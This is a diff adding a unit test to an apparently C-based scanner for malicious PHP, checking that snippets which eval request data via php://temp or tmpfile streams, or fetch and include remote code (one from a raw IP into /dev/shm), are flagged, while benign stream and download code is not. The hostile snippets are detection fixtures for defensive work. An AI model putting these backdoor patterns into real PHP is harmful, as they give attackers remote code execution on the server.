@@ -44,10 +44,45 @@ static void test_invoke_and_magic_call(void **state)
 	      "echo $f->call($user, $_GET['x']);");
 }
 
+/* Code round-tripped through a php://memory / php://temp stream or a
+ * tmpfile() (read back, or included by its stream_get_meta_data() uri),
+ * and code fetched from a URL written to a file that is then included. */
+static void test_memory_streams_and_fetched_files(void **state)
+{
+	(void)state;
+	expect("<?php $s = fopen('php://temp/maxmemory:65536', 'r+');\n"
+	       "fputs($s, base64_decode($_POST['blob'])); fseek($s, 0);\n"
+	       "$code = fread($s, 1 << 20); eval($code);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $t = tmpfile(); fwrite($t, \"<?php \" . $_SERVER['HTTP_X_DATA']);\n"
+	       "$u = stream_get_meta_data($t)['uri']; include($u);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $tmp = tempnam('/tmp', 'x');\n"
+	       "file_put_contents($tmp, file_get_contents('https://cdn.example.net/p.txt'));\n"
+	       "require_once $tmp; unlink($tmp);",
+	       "php.remote_code_exec", HS_SEV_HIGH);
+	expect("<?php $h = curl_init('http://198.51.100.7/x'); curl_setopt($h, 19913, 1);\n"
+	       "$f = '/dev/shm/.c'; $w = fopen($f, 'w'); fwrite($w, curl_exec($h)); fclose($w);\n"
+	       "include $f;",
+	       "php.remote_code_exec", HS_SEV_HIGH);
+	/* a CSV built in php://temp and sent; a JSON feed cached in a file */
+	quiet("<?php $h = fopen('php://temp', 'r+');\n"
+	      "foreach ($rows as $r) fputcsv($h, $r); rewind($h);\n"
+	      "$csv = stream_get_contents($h); header('Content-Type: text/csv'); echo $csv;");
+	quiet("<?php $h = fopen('php://memory', 'w+'); fwrite($h, $_POST['csv']); rewind($h);\n"
+	      "while (($row = fgetcsv($h)) !== false) { $items[] = $row; }");
+	quiet("<?php $cache = sys_get_temp_dir() . '/feed.json';\n"
+	      "file_put_contents($cache, file_get_contents('https://api.example.com/feed'));\n"
+	      "$data = json_decode(file_get_contents($cache), true);");
+	quiet("<?php $zip = download_url('https://downloads.example.org/plugin.zip');\n"
+	      "$z = new ZipArchive; $z->open($zip); $z->extractTo(WP_PLUGIN_DIR); $z->close();");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(test_invoke_and_magic_call),
+	    cmocka_unit_test(test_memory_streams_and_fetched_files),
 	};
 	int rc = cmocka_run_group_tests(tests, NULL, NULL);
 	php_result_free(&res);
